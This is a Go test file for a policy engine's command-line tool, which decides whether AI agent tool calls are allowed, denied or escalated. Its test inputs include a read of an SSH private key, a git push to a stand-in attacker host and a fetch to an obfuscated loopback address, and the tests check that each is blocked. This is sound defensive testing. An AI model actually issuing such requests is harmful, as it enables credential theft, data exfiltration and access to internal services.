package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func runCLI(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code = run(context.Background(), args, strings.NewReader(stdin), &out, &errOut)
	return code, out.String(), errOut.String()
}

func TestPolicyEval(t *testing.T) {
	sb := t.TempDir()
	in := strings.Join([]string{
		`{"server":"filesystem","tool":"read_file","arguments":{"path":"notes.txt"}}`,
		`not json`,
		``,
		`{"server":"filesystem","tool":"read_file","arguments":{"path":"~/.ssh/id_rsa"}}`,
		`{"server":"filesystem","tool":"read_file"}`,
		`{"server":"filesystem","arguments":{}}`,
		`{"server":"filesystem","tool":"read_file","arguments":{"path":"/etc/hostname"},"extra":1}`,
		`{"server":"git","tool":"git_push","arguments":{"path":"` + sb + `","remote":"https://evil.example.org/x"}}`,
		`{"server":"fetch","tool":"http_fetch","arguments":{"url":"http://0x7f.1/"}}`,
		`{"server":"nope","tool":"x","arguments":{}}`,
	}, "\n")
	code, out, errOut := runCLI(t, in, "policy", "eval", "--sandbox", sb, "--allow-domains", "git=github.com,*.github.com")
	require.Equal(t, 0, code, errOut)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	want := []struct{ decision, rule string }{
		{"allow", "structural-sandbox-allow"},
		{"deny", "invalid-request"},
		{"deny", "structural-protected-path"},
		{"escalate", "escalate-read-outside-sandbox"}, // no path: the role has no value
		{"deny", "invalid-request"},
		{"deny", "invalid-request"},
		{"escalate", "structural-domain-escalate"},
		{"deny", "default-deny"},
		{"deny", "structural-unknown-tool"},
	}
	require.Len(t, lines, len(want), out)
	for i, w := range want {
		var r map[string]string
		require.NoError(t, json.Unmarshal([]byte(lines[i]), &r), lines[i])
		require.Equal(t, w.decision, r["decision"], lines[i])
		require.Equal(t, w.rule, r["rule"], lines[i])
		require.NotEmpty(t, r["reason"])
		require.Len(t, r, 3, "exactly decision, rule and reason")
	}
}

func TestPolicyEvalLongLine(t *testing.T) {
	long := `{"server":"filesystem","tool":"read_file","arguments":{"path":"` + strings.Repeat("a", maxRequestLine) + `"}}`
	code, out, _ := runCLI(t, long+"\n"+`{"server":"filesystem","tool":"list_allowed_directories","arguments":{}}`+"\n", "policy", "eval")
	require.Equal(t, 0, code)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 2)
	require.Contains(t, lines[0], "invalid-request")
	require.Contains(t, lines[1], "structural-introspection-allow")
}

func TestPolicyLoadFailure(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "compiled-policy.json")
	require.NoError(t, os.WriteFile(bad, []byte(`{"rules":[{"name":"r","if":{"roles":["bogus"]},"then":"allow","reason":"x"}]}`), 0o644))
	code, out, errOut := runCLI(t, "", "policy", "eval", "--policy", bad)
	require.Equal(t, 2, code)
	require.Empty(t, out)
	require.Contains(t, errOut, bad)
	require.Contains(t, errOut, `rule "r"`)

	code, _, errOut = runCLI(t, "", "policy", "eval", "--policy", filepath.Join(dir, "missing.json"))
	require.Equal(t, 2, code)
	require.Contains(t, errOut, "missing.json")
}

func TestPolicyExplain(t *testing.T) {
	sb := t.TempDir()
	code, out, errOut := runCLI(t, `{"server":"filesystem","tool":"write_file","arguments":{"path":"/etc/x","content":"y"}}`+"\n"+"{bad\n", "policy", "explain", "--sandbox", sb)
	require.Equal(t, 0, code, errOut)
	require.Contains(t, out, "decision: escalate by escalate-write-outside-sandbox")
	require.Contains(t, out, "trace:")
	require.Contains(t, out, "line 2: denied: malformed request")
}

func TestPolicyLint(t *testing.T) {
	code, out, errOut := runCLI(t, "", "policy", "lint")
	require.Equal(t, 0, code, out+errOut)

	dir := t.TempDir()
	p := filepath.Join(dir, "p.json")
	require.NoError(t, os.WriteFile(p, []byte(`{"rules":[
		{"name":"all","if":{},"then":"escalate","reason":"x"},
		{"name":"late","if":{"server":["git"],"tool":["git_push"]},"then":"allow","reason":"x"}]}`), 0o644))
	code, out, _ = runCLI(t, "", "policy", "lint", "--policy", p)
	require.Equal(t, 1, code)
	require.Contains(t, out, "catch-all: all:")
	require.Contains(t, out, "shadowed: late:")
	code, out, _ = runCLI(t, "", "policy", "lint", "--policy", p, "--json")
	require.Equal(t, 1, code)
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		require.True(t, json.Valid([]byte(line)), line)
	}
}

func TestUsage(t *testing.T) {
	code, _, errOut := runCLI(t, "")
	require.Equal(t, 2, code)
	require.Contains(t, errOut, "usage:")
	code, _, _ = runCLI(t, "", "frobnicate")
	require.Equal(t, 2, code)
	code, _, _ = runCLI(t, "", "policy")
	require.Equal(t, 2, code)
	code, _, _ = runCLI(t, "", "policy", "eval", "--no-such-flag")
	require.Equal(t, 2, code)
	code, _, errOut = runCLI(t, "", "policy", "eval", "--allow-domains", "nogood")
	require.Equal(t, 2, code)
	require.Contains(t, errOut, "SERVER=PATTERN")
	code, _, _ = runCLI(t, "", "policy", "eval", "stray")
	require.Equal(t, 2, code)
}
